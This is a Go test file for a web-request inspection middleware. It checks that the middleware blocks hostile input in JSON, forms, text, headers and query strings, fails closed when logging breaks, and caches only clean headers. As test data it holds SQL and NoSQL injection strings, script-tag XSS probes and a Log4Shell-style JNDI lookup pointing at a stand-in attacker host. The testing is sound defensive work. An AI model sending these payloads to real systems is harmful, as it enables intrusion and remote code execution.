package middleware_test

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/makerguard/makerguard"
	"github.com/makerguard/makerguard/middleware"
	"github.com/makerguard/makerguard/threat"
)

// history keeps what was recorded, or fails.
type history struct {
	found []makerguard.Finding
	err   error
}

func (h *history) Record(_ context.Context, _ *makerguard.Principal, _ makerguard.Client, fs []makerguard.Finding) ([]makerguard.Threat, error) {
	h.found = append(h.found, fs...)
	return nil, h.err
}

func inspection(t testing.TB, log *history) *middleware.Inspection {
	t.Helper()
	d, err := threat.NewDetector(threat.DetectorConfig{Paranoia: 1})
	if err != nil {
		t.Fatal(err)
	}
	return &middleware.Inspection{Detector: d, Log: log, Seen: new(middleware.CleanValues)}
}

const injection = "1' OR '1'='1' -- "

func TestInspection_FindsAttacksWhereverTheyStand(t *testing.T) {
	for name, tc := range map[string]struct {
		contentType, body, header string
		blocked                   bool
	}{
		"clean JSON":             {"application/json", `{"name":"O'Brien & Sons"}`, "", false},
		"attack in JSON":         {"application/json; charset=utf-8", `{"a":[{"b":"` + injection + `"}]}`, "", true},
		"attack in problem JSON": {"application/merge-patch+json", `{"$where":"sleep(1)"}`, "", true},
		"JSON without a type":    {"", `{"user":{"$ne":""}}`, "", true},
		"attack in a form":       {"application/x-www-form-urlencoded", "q=1%27+OR+%271%27%3D%271%27+--+", "", true},
		"operator in form names": {"application/x-www-form-urlencoded", "user[$ne]=", "", true},
		"attack in text":         {"text/plain", "<script>alert(1)</script>", "", true},
		"attack in a header":     {"application/json", "{}", "${jndi:ldap://evil.example/a}", true},
		"binary is not read":     {"application/octet-stream", injection, "", false},
		"attack after 900 KiB":   {"application/json", `{"pad":"` + strings.Repeat("a", 900<<10) + `","q":"` + injection + `"}`, "", true},
	} {
		log := &history{}
		var got string
		h := inspection(t, log).Handler(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
			b, _ := io.ReadAll(r.Body)
			got = string(b)
		}))
		r := httptest.NewRequest(http.MethodPost, "/products", strings.NewReader(tc.body))
		r.Header.Set("Content-Type", tc.contentType)
		if tc.header != "" {
			r.Header.Set("Referer", tc.header)
		}
		w := httptest.NewRecorder()
		h.ServeHTTP(w, r)
		if blocked := w.Code == http.StatusForbidden; blocked != tc.blocked || blocked != (len(log.found) > 0) {
			t.Errorf("%s: %d %.200s with %d findings recorded, want blocked %v", name, w.Code, w.Body, len(log.found), tc.blocked)
		}
		if !tc.blocked && got != tc.body {
			t.Errorf("%s: the handler read %d bytes, want the whole body of %d", name, len(got), len(tc.body))
		}
	}
}

// What is larger than is inspected reaches the handler whole.
func TestInspection_PassesOnWhatFollowsTheInspectedPart(t *testing.T) {
	body := `{"pad":"` + strings.Repeat("a", middleware.MaxInspected+5000) + `"}`
	n := 0
	h := inspection(t, &history{}).Handler(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		n = len(b)
	}))
	r := httptest.NewRequest(http.MethodPost, "/", strings.NewReader(body))
	r.Header.Set("Content-Type", "text/plain")
	h.ServeHTTP(httptest.NewRecorder(), r)
	if n != len(body) {
		t.Errorf("the handler read %d bytes, want %d", n, len(body))
	}
}

// goal: V16.5.2 — a history that cannot be written does not let an attack through.
func TestInspection_FailsClosed(t *testing.T) {
	in := inspection(t, &history{err: makerguard.StoreUnavailable})
	w := httptest.NewRecorder()
	in.Handler(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { t.Error("the handler was reached") })).
		ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/?q=%3Cscript%3Ealert(1)%3C/script%3E", nil))
	if w.Code != http.StatusForbidden {
		t.Errorf("status %d, want 403", w.Code)
	}
	in.Monitor = true
	w = httptest.NewRecorder()
	in.Handler(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {})).
		ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/?q=%3Cscript%3Ealert(1)%3C/script%3E", nil))
	if w.Code != http.StatusOK {
		t.Errorf("monitoring: status %d, want 200: watching never refuses", w.Code)
	}
}

// A clean header that was remembered does not vouch for another one.
func TestInspection_RemembersCleanHeadersOnly(t *testing.T) {
	in := inspection(t, &history{})
	header := func(v string) http.Header { return http.Header{"User-Agent": {v}} }
	for i := range 2000 { // more than are remembered
		clean := fmt.Sprintf("Mozilla/5.0 (X11; Linux x86_64) build %d", i)
		hostile := fmt.Sprintf("<script>alert(%d)</script>", i)
		for range 2 {
			if found := in.Head(nil, "/", "", header(clean)); len(found) != 0 {
				t.Fatalf("%q: %v, want nothing", clean, found)
			}
			if found := in.Head(nil, "/", "", header(hostile)); len(found) == 0 {
				t.Fatalf("%q: nothing found the second time", hostile)
			}
		}
	}
}
